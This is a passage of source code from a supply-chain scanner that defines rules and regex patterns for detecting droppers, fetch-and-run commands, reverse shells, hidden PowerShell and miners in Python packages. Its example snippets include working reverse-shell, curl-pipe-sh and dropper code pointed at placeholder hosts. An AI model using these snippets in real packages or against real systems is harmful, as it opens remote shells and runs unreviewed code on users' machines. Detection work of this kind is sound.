"""Execution and droppers: what a package runs, and where it came from.

A lone ``subprocess`` call says nothing; these rules look at *what* is run. Data fetched from the
network that reaches ``exec`` or a process, a downloaded (or decoded) file that is written and then
started, command lines that fetch and run (``curl | sh``, PowerShell download cradles, LOLBin
downloaders), reverse shells, hidden or encoded PowerShell and miners.

Command lines are read with a small shell model (``_parse_command``): segments split at ``|``,
``&&``, ``;``, ``&`` and new lines, words with quotes removed, and per segment the program, the
script an interpreter runs, files a downloader writes, files ``chmod`` makes executable and files
that are moved. In Python, non-literal parts of a command become placeholders that keep the
expression they stand for, so a file written by Python can be followed into the command that runs
it.
"""

from __future__ import annotations

import ast
import re
from collections.abc import Iterator
from dataclasses import dataclass, field
from typing import ClassVar

from depvet.analysis.detector import Cap, Detector, Mark, PyContext, TextContext, hint_index, short
from depvet.analysis.files import FileKind
from depvet.analysis.pyfacts import CallSite, Scope, ScopeKind, StringLit
from depvet.model import Category, RunContext, Severity
from depvet.rules import Example, Rule

# ---------------------------------------------------------------------------------------------
# Rules
# ---------------------------------------------------------------------------------------------

_REFS_DROPPERS = (
    "https://blog.pypi.org/posts/2024-12-11-ultralytics-attack-analysis/",
    "https://attack.mitre.org/techniques/T1105/",
)

REMOTE_CODE_EXEC = Rule(
    id="DV501",
    name="remote-code-executed",
    title="Data fetched from the network is executed as code or as a command",
    severity=Severity.CRITICAL,
    category=Category.EXECUTION,
    description=(
        "Bytes read from a URL or a socket reach `exec`, `eval` or `compile`, or become the command "
        "of a process (`os.system(resp.text)`, `python -c <downloaded>`), directly or through local "
        "variables and functions. The package then runs whatever the server sends today: a second "
        "stage that nobody reviewed and that can change after the package was vetted. Also matches "
        "Python code kept in a string that does the same (`exec(urlopen(url).read())`) when it is "
        "written to a file or run."
    ),
    bad=Example(
        path="setup.py",
        code=(
            "import urllib.request\nfrom setuptools import setup\n"
            "code = urllib.request.urlopen('https://paste.example.invalid/raw/x').read()\n"
            "exec(code)\nsetup(name='x')\n"
        ),
    ),
    good=Example(
        path="setup.py",
        code=(
            "import json, urllib.request\nfrom setuptools import setup\n\n"
            "def latest():\n"
            "    data = urllib.request.urlopen('https://pypi.org/pypi/x/json').read()\n"
            "    return json.loads(data)['info']['version']\n\n"
            "setup(name='x')\n"
        ),
    ),
    false_positives="Plugin systems that deliberately run code from a configured server; these "
    "do it inside functions a user calls, where the rule counts one level lower.",
    references=("https://attack.mitre.org/techniques/T1059/006/", *_REFS_DROPPERS),
)
DOWNLOAD_AND_RUN = Rule(
    id="DV502",
    name="download-and-run-file",
    title="A downloaded file is written to disk and started",
    severity=Severity.CRITICAL,
    category=Category.EXECUTION,
    description=(
        "The package downloads a file (`requests.get`, `urlopen`, `urlretrieve`, `curl -o`), "
        "writes it, and starts it: as a process, with `os.startfile`, through an interpreter "
        "(`python file`, `start file`), or after `chmod +x`. This is the dropper pattern of most "
        "install-time malware on PyPI and of the ultralytics 8.3.41 miner: the second stage never "
        "appears in the package, so nothing else in it looks wrong."
    ),
    bad=Example(
        path="pydatetime_tz/__init__.py",
        code=(
            "import os, subprocess, tempfile, requests\n"
            "r = requests.get('https://cdn.example.invalid/bin/agent', timeout=10)\n"
            "p = os.path.join(tempfile.gettempdir(), '.tzdata-agent')\n"
            "with open(p, 'wb') as f:\n    f.write(r.content)\n"
            "os.chmod(p, 0o755)\n"
            "subprocess.Popen([p], start_new_session=True)\n"
        ),
    ),
    good=Example(
        path="modelzoo/__init__.py",
        code=(
            "import os, subprocess, requests\n\n"
            "def fetch(url, dest):\n"
            "    r = requests.get(url, timeout=10)\n"
            "    with open(dest, 'wb') as f:\n        f.write(r.content)\n"
            "    subprocess.run(['tar', 'xzf', dest, '-C', os.path.dirname(dest)], check=True)\n"
        ),
    ),
    false_positives="Tool installers that download a release binary and run it (browser or "
    "driver downloaders) inside a function the user calls: the rule counts one level lower there; "
    "extracting or reading a downloaded file is not running it.",
    references=_REFS_DROPPERS,
)
FETCH_AND_RUN_COMMAND = Rule(
    id="DV503",
    name="fetch-and-run-command",
    title="A command line downloads code and runs it",
    severity=Severity.CRITICAL,
    category=Category.EXECUTION,
    description=(
        "A process started by the package (or a command decoded from it, or written by it into a "
        "file) fetches something and runs it in the same command line: `curl ... | sh`, `wget -O- "
        '... | bash`, `curl -o /tmp/x URL && chmod +x /tmp/x && /tmp/x`, `bash -c "$(curl ...)"`, '
        "PowerShell cradles (`iex (New-Object Net.WebClient).DownloadString(...)`, "
        "`Invoke-WebRequest -OutFile x.exe; Start-Process x.exe`), and Windows downloaders abused by "
        "malware (`certutil -urlcache`, `bitsadmin /transfer`, `mshta http://...`). A package never "
        "needs this to install or import."
    ),
    bad=Example(
        path="setup.py",
        code=(
            "import os\nfrom setuptools import setup\n"
            "os.system('curl -fsSL https://update.example.invalid/i.sh | sh')\nsetup(name='x')\n"
        ),
    ),
    good=Example(
        path="setup.py",
        code=(
            "import subprocess\nfrom setuptools import setup\n"
            "subprocess.check_call(['curl', '-fsSL', '-o', 'data/tables.csv', "
            "'https://example.org/tables.csv'])\nsetup(name='x')\n"
        ),
    ),
    false_positives="CLIs that offer to run an official installer (`curl -LsSf .../install.sh | sh`) "
    "when a user asks for it: there the command is usually built in one function and run in "
    "another, and a fetch-and-run string that is not visibly run is only DV511.",
    references=(
        "https://attack.mitre.org/techniques/T1105/",
        "https://lolbas-project.github.io/lolbas/Binaries/Certutil/",
    ),
)
REVERSE_SHELL = Rule(
    id="DV504",
    name="reverse-shell",
    title="Reverse shell: a shell's input and output are tied to a network socket",
    severity=Severity.CRITICAL,
    category=Category.EXECUTION,
    description=(
        "The code connects a socket and hands it to a shell: `os.dup2(s.fileno(), 0/1/2)` followed "
        "by `pty.spawn('/bin/sh')` or `subprocess.call(['/bin/sh', '-i'])`, a process whose stdin "
        "and stdout are a socket, or a command line such as `bash -i >& /dev/tcp/host/port 0>&1`, "
        "`nc -e /bin/sh`, `mkfifo ... | nc` or a PowerShell `TCPClient` loop. Whoever listens on the "
        "other end gets an interactive shell on the machine that installed the package."
    ),
    bad=Example(
        path="setup.py",
        code=(
            "from setuptools import setup\nfrom setuptools.command.develop import develop\n"
            "import socket, os, pty\n\nclass D(develop):\n    def run(self):\n"
            "        s = socket.create_connection(('192.0.2.55', 9001))\n"
            "        [os.dup2(s.fileno(), fd) for fd in (0, 1, 2)]\n"
            "        pty.spawn('/bin/bash')\n\nsetup(name='x', cmdclass={'develop': D})\n"
        ),
    ),
    good=Example(
        path="termkit/__init__.py",
        code=(
            "import os, pty, sys\n\ndef record(argv):\n"
            "    null = os.open(os.devnull, os.O_RDWR)\n    os.dup2(null, 2)\n"
            "    return pty.spawn(argv)\n"
        ),
    ),
    false_positives="Terminal and daemon libraries use `pty` and `os.dup2` without a socket; "
    "security tools that ship reverse-shell templates (counted lower under tests and docs).",
    references=(
        "https://attack.mitre.org/techniques/T1059/004/",
        "https://github.com/DataDog/guarddog",
    ),
)
ENCODED_POWERSHELL = Rule(
    id="DV505",
    name="encoded-powershell",
    title="PowerShell is started with an encoded (-EncodedCommand) script",
    severity=Severity.HIGH,
    category=Category.EXECUTION,
    description=(
        "A process runs `powershell -EncodedCommand <base64>` (or one of its abbreviations `-enc`, "
        "`-ec`, `-e`). Encoding the script hides it from anyone reading the package and from "
        "simple filters; it is the most common shape of Windows droppers on PyPI. depvet decodes "
        "the script and reports what it does (a download and run is DV503)."
    ),
    bad=Example(
        path="setup.py",
        code=(
            "import subprocess\nfrom setuptools import setup\n"
            "subprocess.Popen('powershell -EncodedCommand "
            "dwBoAG8AYQBtAGkAIAB8ACAATwB1AHQALQBGAGkAbABlACAAJABlAG4AdgA6AFQARQBNAFAAXAB1AC4AdAB4AHQA', "
            "shell=True)\nsetup(name='x')\n"
        ),
    ),
    good=Example(
        path="setup.py",
        code=(
            "import subprocess\nfrom setuptools import setup\n"
            "subprocess.check_call(['powershell', '-NoProfile', '-File', 'tools/gen.ps1'])\n"
            "setup(name='x')\n"
        ),
    ),
    false_positives="Credential helpers (Azure PowerShell) encode a generated script to avoid "
    "quoting problems, inside functions a user calls, where the rule counts one level lower.",
    references=("https://attack.mitre.org/techniques/T1027/010/",),
)
HIDDEN_POWERSHELL = Rule(
    id="DV506",
    name="hidden-powershell",
    title="PowerShell is started with a hidden window",
    severity=Severity.HIGH,
    category=Category.EXECUTION,
    description=(
        "A process runs PowerShell with `-WindowStyle Hidden` (`-w hidden`) or `Start-Process "
        "-WindowStyle Hidden`. A package that needs PowerShell for a build step has nothing to hide "
        "from the user; droppers hide the window so the download and the started payload go "
        "unnoticed."
    ),
    bad=Example(
        path="setup.py",
        code=(
            "import subprocess\nfrom setuptools import setup\n"
            "subprocess.Popen(['powershell', '-WindowStyle', 'Hidden', '-File', 'C:/Users/Public/u.ps1'])\n"
            "setup(name='x')\n"
        ),
    ),
    good=Example(
        path="setup.py",
        code=(
            "import subprocess\nfrom setuptools import setup\n"
            "subprocess.check_call(['powershell', '-NoProfile', '-NonInteractive', '-File', "
            "'tools/gen.ps1'])\nsetup(name='x')\n"
        ),
    ),
    false_positives="Test suites that start hidden PowerShell (counted two levels lower).",
    references=("https://attack.mitre.org/techniques/T1564/003/",),
)
DECODED_DROP_AND_RUN = Rule(
    id="DV507",
    name="decoded-binary-dropped-and-run",
    title="An embedded, decoded payload is written to disk and started",
    severity=Severity.CRITICAL,
    category=Category.EXECUTION,
    description=(
        "The package decodes a blob it carries (base64, hex, zlib, an embedded ELF or PE image), "
        "writes the result to a file and starts it. Shipping a program as an encoded string instead "
        "of as a file serves only to hide it from review and from scanners that look at files."
    ),
    bad=Example(
        path="setup.py",
        code=(
            "import base64, os, subprocess\nfrom setuptools import setup\n"
            "b = 'f0VMRgIBAQAAAAAAAAAAAAIAPgABAAAAeABAAAAAAABAAAAAAAAAAA=='\n"
            "p = '/tmp/.gpustat'\nopen(p, 'wb').write(base64.b64decode(b))\n"
            "os.chmod(p, 0o777)\nsubprocess.Popen([p])\nsetup(name='x')\n"
        ),
    ),
    good=Example(
        path="setup.py",
        code=(
            "import base64\nfrom setuptools import setup\n"
            "icon = 'iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNkYPhfDwAChwGA60e6kg'\n"
            "open('pkg/icon.png', 'wb').write(base64.b64decode(icon))\nsetup(name='x')\n"
        ),
    ),
    false_positives="Build scripts that unpack an embedded helper and run it; rare, and still worth a look.",
    references=("https://attack.mitre.org/techniques/T1027/009/",),
)
WRITE_CHMOD_RUN = Rule(
    id="DV508",
    name="write-chmod-run",
    title="A file is written, made executable and started",
    severity=Severity.HIGH,
    category=Category.EXECUTION,
    description=(
        "The code writes a file, sets its executable bit (`os.chmod(p, 0o755)`, `chmod +x`) and runs "
        "it, all in one module. Packages install executables through entry points and wheels, not "
        "by creating them at install or import time; droppers create them so the program they start "
        "never appears in the package listing (the LiteLLM follow-up stage did this with "
        "`/tmp/pglog`)."
    ),
    bad=Example(
        path="setup.py",
        code=(
            "import os, subprocess\nfrom setuptools import setup\n"
            "script = '#!/bin/sh\\nid > /tmp/.o\\n'\n"
            "with open('/tmp/.upd', 'w') as f:\n    f.write(script)\n"
            "os.chmod('/tmp/.upd', 0o755)\nsubprocess.call(['/tmp/.upd'])\nsetup(name='x')\n"
        ),
    ),
    good=Example(
        path="setup.py",
        code=(
            "import os\nfrom setuptools import setup\n"
            "with open('build/run-tests.sh', 'w') as f:\n    f.write('#!/bin/sh\\npytest\\n')\n"
            "os.chmod('build/run-tests.sh', 0o755)\nsetup(name='x')\n"
        ),
    ),
    false_positives="Build steps that generate and run a helper script (counted one level lower "
    "inside functions that only run when called).",
    references=("https://attack.mitre.org/techniques/T1222/002/",),
)
DETACHED_TEMP_EXEC = Rule(
    id="DV509",
    name="detached-temp-executable",
    title="A program in a temporary or hidden location is started detached or hidden",
    severity=Severity.HIGH,
    category=Category.EXECUTION,
    description=(
        "A program under a temporary directory (`/tmp`, `%TEMP%`, `%APPDATA%`, `tempfile`) or with a "
        "hidden dot-name is started so that it outlives the installer or shows no window: "
        "`start_new_session=True`, `creationflags=CREATE_NO_WINDOW/DETACHED_PROCESS`, "
        "`preexec_fn=os.setsid`, `nohup ... &`, `start`, `pythonw` or `os.startfile`. Droppers do "
        "this so the payload keeps running after `pip install` returns."
    ),
    bad=Example(
        path="setup.py",
        code=(
            "import os, subprocess\nfrom setuptools import setup\n"
            "exe = os.path.join(os.environ['APPDATA'], 'svchost.exe')\n"
            "subprocess.Popen([exe], creationflags=subprocess.CREATE_NO_WINDOW)\nsetup(name='x')\n"
        ),
    ),
    good=Example(
        path="setup.py",
        code=(
            "import subprocess, sys\nfrom setuptools import setup\n"
            "subprocess.Popen([sys.executable, 'tools/warm_cache.py'], start_new_session=True)\n"
            "setup(name='x')\n"
        ),
    ),
    false_positives="Updaters that start a freshly unpacked installer from the temp directory "
    "inside a function the user calls (counted one level lower there).",
    references=("https://attack.mitre.org/techniques/T1564/",),
)
CRYPTO_MINER = Rule(
    id="DV510",
    name="crypto-miner-launch",
    title="A cryptocurrency miner is started",
    severity=Severity.CRITICAL,
    category=Category.EXECUTION,
    description=(
        "A process is started with miner arguments or a miner program: `xmrig`, a `stratum+tcp://` "
        "pool, `--donate-level`, or a Monero wallet address. Miners in packages (ultralytics "
        "8.3.41/8.3.45) burn the victim's CPU and GPU for the attacker and are malware on their own."
    ),
    bad=Example(
        path="ultra/__init__.py",
        code=(
            "import os\n"
            "os.system('nohup /tmp/ultralytics_runner -o stratum+tcp://pool.example.invalid:3333 "
            "--donate-level 1 >/dev/null 2>&1 &')\n"
        ),
    ),
    good=Example(
        path="ultra/__init__.py",
        code=(
            "import os\n\ndef gpu_count():\n    return len(os.popen('nvidia-smi -L').read().splitlines())\n"
        ),
    ),
    false_positives="Packages whose documented purpose is mining.",
    references=("https://github.com/ultralytics/ultralytics/issues/18027",),
)
COMMAND_STRING = Rule(
    id="DV511",
    name="dangerous-command-string",
    title="A fetch-and-run, reverse-shell or miner command line sits in the package",
    severity=Severity.MEDIUM,
    category=Category.EXECUTION,
    description=(
        "A string literal, or a shell, batch, PowerShell or JavaScript file of the package, holds a "
        "command line that downloads and runs code, opens a reverse shell, runs encoded or hidden "
        "PowerShell, or starts a miner, but depvet cannot see it being run. Installers print such "
        "lines as advice and scripts for CI use them; malware keeps them to pass to a process "
        "later. Worth a look, not a verdict."
    ),
    bad=Example(
        path="netutil/payloads.py",
        code="REV = 'bash -i >& /dev/tcp/198.51.100.7/4444 0>&1'\n",
    ),
    good=Example(
        path="netutil/help.py",
        code=(
            "HINT = 'Install the CLI with pip install netutil, or download the wheel from "
            "https://example.org'\n"
        ),
    ),
    false_positives="Install hints (`curl -LsSf https://.../install.sh | sh`) in CLIs and CI "
    "scripts; security tooling.",
    references=("https://attack.mitre.org/techniques/T1059/",),
)

# ---------------------------------------------------------------------------------------------
# Command lines
# ---------------------------------------------------------------------------------------------

# Kinds of what a command line does.
PIPE_FETCH = "fetch piped into an interpreter"
FETCH_RUN = "download, then run"
LOLBIN = "Windows downloader"
CRADLE = "PowerShell download cradle"
REV_SHELL = "reverse shell"
MINER = "miner"
PS_ENCODED = "encoded PowerShell"
PS_HIDDEN = "hidden PowerShell"
CODE_FETCH = "downloaded code executed"

_PH_OPEN, _PH_CLOSE = "\ue000", "\ue001"
_PLACEHOLDER = re.compile(f"{_PH_OPEN}(\\d+){_PH_CLOSE}")

_SHELLS = frozenset(
    {"sh", "bash", "zsh", "dash", "ksh", "ash", "fish", "csh", "tcsh", "cmd", "powershell", "pwsh"}
)
_PIPE_INTERPRETERS = frozenset(
    {
        "sh",
        "bash",
        "zsh",
        "dash",
        "ksh",
        "ash",
        "fish",
        "python",
        "pythonw",
        "perl",
        "ruby",
        "php",
        "node",
        "powershell",
        "pwsh",
        "osascript",
    }
)
_INTERPRETERS = _PIPE_INTERPRETERS | frozenset(
    {"cmd", "wscript", "cscript", "mshta", "rundll32", "regsvr32", "msiexec", "bun", "deno"}
)
# Flags after which an interpreter does not read its program from stdin or a script file.
_INLINE_FLAGS = frozenset(
    {"-c", "/c", "/k", "-m", "-e", "-command", "-encodedcommand", "-enc", "-file", "-r"}
)
# Words before the program: wrappers, Windows start, PowerShell's runners.
_PREFIXES = frozenset(
    {
        "nohup",
        "setsid",
        "disown",
        "sudo",
        "doas",
        "exec",
        "env",
        "nice",
        "ionice",
        "command",
        "call",
        "time",
        "timeout",
        "&",
        ".",
        "source",
        "invoke-item",
        "ii",
        "iex",
        "invoke-expression",
        "start",
        "start-process",
        "saps",
        "hidden",
        "minimized",
    }
)
_DETACHING = frozenset({"nohup", "setsid", "disown", "start", "start-process", "saps"})
_DOWNLOADERS = frozenset(
    {
        "curl",
        "wget",
        "iwr",
        "invoke-webrequest",
        "irm",
        "invoke-restmethod",
        "start-bitstransfer",
        "aria2c",
        "lwp-download",
    }
)
_MOVERS = frozenset({"mv", "move", "cp", "copy", "ren", "rename", "copy-item", "move-item", "xcopy"})
_PS_ENC_FLAGS = frozenset("-encodedcommand"[:n] for n in range(2, 16)) | {"-ec"}
_CHMOD_MODE = re.compile(r"[ugoa]*\+[rwxs]*x[rwxs]*|0?[0-7]?[0-7]?[1357][0-7]?[0-7]?")

_REV_SHELL_PATTERNS = (
    re.compile(r"\b(?:ba|z|da|k)?sh\s+-i\b[^\n]{0,80}/dev/(?:tcp|udp)/", re.I),
    re.compile(r"/dev/(?:tcp|udp)/[^\s/]{1,100}/\d{1,5}[^\n]{0,40}[0-2]>&[0-2]", re.I),
    re.compile(r">&\s*/dev/(?:tcp|udp)/", re.I),
    re.compile(r"\bexec\s+\d+<>\s*/dev/(?:tcp|udp)/", re.I),
    re.compile(
        r"\bn(?:c|cat|etcat)(?:\.exe)?\s[^\n|;&]{0,100}(?:-[a-z]*e|-c|--exec|--sh-exec)\s+[\"']?"
        r"(?:/bin/|/usr/bin/)?(?:(?:ba|z|da)?sh|cmd(?:\.exe)?|powershell(?:\.exe)?)\b",
        re.I,
    ),
    re.compile(r"\bmkfifo\b[^\n]{0,120}\|\s*n(?:c|cat|etcat)\b", re.I),
    re.compile(r"\bn(?:c|cat|etcat)\s[^\n|;&]{1,80}\|\s*(?:/bin/)?(?:ba)?sh\b", re.I),
    re.compile(r"\bsocat\b[^\n]{0,120}exec:[\"']?(?:/bin/)?(?:ba|z)?sh", re.I),
    re.compile(r"\btelnet\b[^\n]{0,80}\|\s*(?:/bin/)?(?:ba)?sh\b", re.I),
    re.compile(r"Net\.Sockets\.TCPClient\([^\n]{0,400}GetStream\(\)", re.I),
    re.compile(
        r"\bsocket\b[^\n]{0,300}\.connect\([^\n]{0,300}dup2\([^\n]{0,300}(?:pty\.spawn|/bin/(?:ba)?sh)", re.I
    ),
    re.compile(r"use\s+Socket;[^\n]{0,300}exec\s*\(?\s*[\"'](?:/bin/)?(?:ba)?sh", re.I),
)
_MINER_PATTERNS = (
    re.compile(r"stratum\+(?:tcp|ssl|tls)://", re.I),
    re.compile(r"\bxmrig\b", re.I),
    re.compile(r"--donate-level\b", re.I),
    re.compile(r"\b(?:cpuminer|minerd|nanominer|lolminer|xmr-stak|phoenixminer|nbminer)\b", re.I),
    re.compile(r"--(?:algo|coin)[= ](?:rx/0|randomx|cryptonight|monero|xmr)\b", re.I),
    re.compile(r"(?<![0-9A-Za-z])4[0-9AB][1-9A-HJ-NP-Za-km-z]{93}(?![0-9A-Za-z])"),
)
_CRADLE_PATTERNS = (
    re.compile(
        r"\b(?:iex|invoke-expression)\b[^\n]{0,200}?(?:downloadstring|downloaddata|invoke-webrequest|"
        r"invoke-restmethod|\biwr\b|\birm\b|net\.webclient)",
        re.I,
    ),
    re.compile(
        r"(?:downloadstring|invoke-restmethod|invoke-webrequest|\birm\b|\biwr\b)[^\n]{0,300}?\|\s*"
        r"(?:iex|invoke-expression)\b",
        re.I,
    ),
)
_LOLBIN_PATTERNS = (
    re.compile(r"\bcertutil(?:\.exe)?\s[^\n]{0,100}-urlcache\b[^\n]{0,200}https?://", re.I),
    re.compile(r"\bbitsadmin(?:\.exe)?\s[^\n]{0,40}/transfer\b[^\n]{0,200}https?://", re.I),
    re.compile(r"\bmshta(?:\.exe)?\s+[\"']?(?:https?|vbscript|javascript):", re.I),
    re.compile(r"\bregsvr32(?:\.exe)?\s[^\n]{0,80}/i:https?://", re.I),
)
# Miner words, and the flags that come with a wallet address (-u WALLET -o pool:port).
_MINER_HINTS = ("stratum", "xmrig", "donate-level", "miner", "xmr-stak", "--algo", "--coin", "-u ", "--user")
_SUBSTITUTION_FETCH = re.compile(r"(?:\$\(|<\(|`)\s*(?:curl|wget)\b", re.I)
_SUBSTITUTION_RUNNER = re.compile(
    r"(?:\b(?:ba|z|da|k)?sh|python[\d.]*|\beval|\bsource|(?:^|\s)\.)\s*(?:-c\s*)?[\"']?\s*$", re.I
)
_PS_DOWNLOADFILE = re.compile(
    r"\.downloadfile\(\s*[\"']?([^\"',)]{1,300})[\"']?\s*,\s*[\"']?([^\"')]{1,300})", re.I
)
# Python kept as text that downloads code and runs it: exec(urlopen(url).read()).
_PY_CODE_FETCH = re.compile(
    r"\b(?:exec|eval)\s*[\( ]\s*[\w.]{0,80}(?:urlopen|urlretrieve|get|fetch)\s*\([^\n]{0,300}?"
    r"\.(?:read|text|content|decode)\b"
)
_TRIGGER = re.compile(
    r"curl|wget|/dev/(?:tcp|udp)|powershell|pwsh|downloadstring|downloadfile|invoke-webrequest|"
    r"invoke-restmethod|invoke-expression|\biwr\b|\birm\b|\biex\b|certutil|bitsadmin|mshta|regsvr32|"
    r"xmrig|stratum\+|donate-level|minerd|cpuminer|mkfifo|socat|\bnc\s+(?:-|\d|[\w.-]+\s+\d)|ncat|"
    r"netcat|tcpclient|urlopen|use socket|\b4[0-9AB][1-9A-HJ-NP-Za-km-z]{93}",
    re.I,
)
_HIT_RULES = {
    PIPE_FETCH: FETCH_AND_RUN_COMMAND,
    FETCH_RUN: FETCH_AND_RUN_COMMAND,
    LOLBIN: FETCH_AND_RUN_COMMAND,
    CRADLE: FETCH_AND_RUN_COMMAND,
    REV_SHELL: REVERSE_SHELL,
    MINER: CRYPTO_MINER,
    PS_ENCODED: ENCODED_POWERSHELL,
    PS_HIDDEN: HIDDEN_POWERSHELL,
    CODE_FETCH: REMOTE_CODE_EXEC,
}
MAX_COMMAND = 20_000


@dataclass(frozen=True, slots=True)
class _Word:
    text: str
    quoted: bool = False

    @property
    def norm(self) -> str:
        return _norm_program(self.text)


@dataclass(slots=True)
class _Segment:
    words: list[_Word]
    op: str  # separator after it: | || && ; & newline, or '' at the end


@dataclass(slots=True)
class _Run:
    """One segment's program, and the script, inline code or stdin an interpreter runs."""

    program: _Word
    interpreter: str | None = None
    script: _Word | None = None
    code: _Word | None = None  # python -c CODE
    reads_stdin: bool = False
    detached: bool = False
    at: int = 0  # index of the program word in its segment


@dataclass(slots=True)
class _Command:
    hits: list[tuple[str, str]] = field(default_factory=list)  # (kind, evidence)
    runs: list[_Run] = field(default_factory=list)
    drops: list[_Word] = field(default_factory=list)  # files a downloader writes
    chmods: list[_Word] = field(default_factory=list)
    moves: list[tuple[_Word, _Word]] = field(default_factory=list)

    def merge(self, other: _Command) -> None:
        self.hits.extend(other.hits)
        self.runs.extend(other.runs)
        self.drops.extend(other.drops)
        self.chmods.extend(other.chmods)
        self.moves.extend(other.moves)


class _PyCheck:
    """Tells whether a placeholder word stands for the running Python (``sys.executable``)."""

    def __call__(self, word: str) -> bool:
        return False


def _norm_program(text: str) -> str:
    """A program word as a bare lower-case name: '/usr/bin/python3.11' -> 'python'."""
    word = text.strip("\"'`() ").lower().replace("\\", "/")
    word = word.rsplit("/", 1)[-1]
    if word.endswith(".exe"):
        word = word[:-4]
    if word.startswith("python") or word in ("py", "pyw"):
        return "pythonw" if word.startswith("pythonw") or word == "pyw" else "python"
    return word


def _norm_path(text: str) -> str:
    path = text.strip("\"'` ").lower().replace("\\", "/")
    for prefix in ("./", "~/", "$home/", "$env:temp/", "%temp%/", "$env:appdata/", "%appdata%/"):
        if path.startswith(prefix):
            path = path[len(prefix) :]
    return path


def _basename(text: str) -> str:
    return _norm_path(text).rsplit("/", 1)[-1]


def _same_file(a: str, b: str) -> bool:
    na, nb = _norm_path(a), _norm_path(b)
    if not na or not nb:
        return False
    if na == nb:
        return True
    if _PH_OPEN in na or _PH_OPEN in nb:
        return False
    base = _basename(na)
    return len(base) >= 3 and base == _basename(nb)


def _is_flag(word: str) -> bool:
    return word.startswith("-") or (word.startswith("/") and len(word) <= 5 and "/" not in word[1:])


# One token of a command line: blanks, a quoted string, a separator, or a run of other characters
# ('&' next to '<' or '>' is part of a redirection such as 2>&1). One C-level pass.
_TOKEN = re.compile(
    r"""[ \t\r\f\v]+|'([^']*)'?|"([^"]*)"?|(\|\||&&|[|;\n]|&(?!>))|((?:[^\s'"|;&]|(?<=[<>])&|&(?=>))+)"""
)


def _split_words(text: str) -> list[_Segment]:
    """Shell-like segments of a command line; linear, tolerant of unbalanced quotes."""
    segments: list[_Segment] = []
    words: list[_Word] = []
    pieces: list[str] = []
    quoted = False
    for match in _TOKEN.finditer(text):
        single, double, op, bare = match.groups()
        if op is None and (single is not None or double is not None or bare is not None):
            # Adjacent pieces form one word, as in --output-document="x".
            pieces.append(single if single is not None else double if double is not None else bare)
            quoted = quoted or bare is None
            continue
        if pieces:
            words.append(_Word("".join(pieces), quoted))
            pieces, quoted = [], False
        if op is not None:
            segments.append(_Segment(words, op))
            words = []
    if pieces:
        words.append(_Word("".join(pieces), quoted))
    segments.append(_Segment(words, ""))
    return [s for s in segments if s.words]


def _run_of(segment: _Segment, is_python: _PyCheck) -> _Run | None:
    words = segment.words
    i = 0
    detached = False
    while i < len(words):
        low = words[i].text.lower()
        name = _norm_program(low)
        if low in _PREFIXES:
            detached = detached or low in _DETACHING
            i += 1
            if low == "start" and i + 1 < len(words) and words[i].quoted and not _pathlike(words[i].text):
                i += 1  # start "title" program
            continue
        if name == "cmd" and i + 1 < len(words) and words[i + 1].text.lower() in ("/c", "/k"):
            i += 2
            continue
        if _is_flag(low) or low.isdigit() or _env_assignment(low):
            i += 1
            continue
        break
    if i >= len(words):
        return None
    run = _Run(words[i], _interpreter(words[i], is_python), detached=detached, at=i)
    if run.interpreter is not None:
        _interpreter_args(run, words[i + 1 :])
    if run.interpreter == "pythonw":
        run.detached = True
    return run


def _env_assignment(word: str) -> bool:
    name, eq, _value = word.partition("=")
    return bool(eq) and name.replace("_", "").isalnum()


def _interpreter_args(run: _Run, rest: list[_Word]) -> None:
    inline = False
    for k, word in enumerate(rest):
        flag = word.text.lower()
        if flag == "-":
            run.reads_stdin = True
            return
        if flag in _INLINE_FLAGS:
            inline = True
            if run.interpreter in ("python", "pythonw") and flag == "-c" and k + 1 < len(rest):
                run.code = rest[k + 1]
            return
        if _is_flag(flag):
            continue
        run.script = word
        return
    run.reads_stdin = not inline


def _interpreter(word: _Word, is_python: _PyCheck) -> str | None:
    if is_python(word.text):
        return "pythonw" if "w.exe" in word.text.lower() else "python"
    name = word.norm
    return name if name in _INTERPRETERS else None


def _pathlike(text: str) -> bool:
    return "/" in text or "\\" in text or "." in text or _PH_OPEN in text


def _download_targets(segment: _Segment) -> list[_Word]:
    words = segment.words
    targets: list[_Word] = []
    for k, word in enumerate(words):
        name = word.norm
        if name in _DOWNLOADERS or name in ("certutil", "bitsadmin"):
            targets += _downloader_outputs(name, words[k + 1 :])
            break
    joined = " ".join(w.text for w in words)
    if "downloadfile" in joined.lower():
        targets += [_Word(m.group(2).strip()) for m in _PS_DOWNLOADFILE.finditer(joined)]
    return [t for t in targets if t.text and t.text != "-" and not t.text.startswith("-")]


def _downloader_outputs(name: str, args: list[_Word]) -> list[_Word]:
    targets: list[_Word] = []
    url = next((w for w in args if w.text.lower().startswith(("http://", "https://", "ftp://"))), None)
    lows = [w.text.lower() for w in args]
    to_stdout = False
    for j, word in enumerate(args):
        raw, low = word.text, lows[j]
        nxt = args[j + 1] if j + 1 < len(args) else None
        if name == "curl" and raw in ("-o", "--output") and nxt is not None:
            targets.append(nxt)
        elif name == "curl" and raw in ("-O", "--remote-name") and url is not None:
            targets.append(_Word(_url_name(url.text)))
        elif name == "wget" and re.fullmatch(r"-\w*O", raw) and nxt is not None:
            to_stdout = to_stdout or nxt.text == "-"
            targets.append(nxt)
        elif name == "wget" and re.fullmatch(r"-\w*O-", raw):
            to_stdout = True
        elif name == "wget" and low.startswith("--output-document="):
            targets.append(_Word(raw.split("=", 1)[1]))
        elif low in ("-outfile", "-destination", "-outf", "-od") and nxt is not None:
            targets.append(nxt)
        elif low.startswith(">") and low not in (">&", ">>&") and not low.startswith(">/dev/"):
            inline = raw.lstrip(">")
            targets.append(_Word(inline) if inline else (nxt or _Word("")))
    if args and (
        (name == "certutil" and "-urlcache" in lows) or (name == "bitsadmin" and "/transfer" in lows)
    ):
        targets.append(args[-1])
    elif name == "wget" and url is not None and not targets and not to_stdout:
        targets.append(_Word(_url_name(url.text)))
    return targets


def _url_name(url: str) -> str:
    return url.split("?", 1)[0].rstrip("/").rsplit("/", 1)[-1]


def _is_fetch(segment: _Segment) -> bool:
    for word in segment.words:
        low = word.text.lower()
        if word.norm in _DOWNLOADERS or "downloadstring" in low or "net.webclient" in low:
            return True
    return False


def _parse_command(text: str, is_python: _PyCheck | None = None, depth: int = 0) -> _Command:
    """What a command line does: hits, and the files it downloads, chmods, moves and runs."""
    check = is_python or _PyCheck()
    command = _Command()
    text = text[:MAX_COMMAND]
    if depth == 0:
        _regex_hits(text, command)
    segments = _split_words(text)
    for index, segment in enumerate(segments):
        nxt = segments[index + 1] if index + 1 < len(segments) else None
        if segment.op == "|" and nxt is not None and _is_fetch(segment):
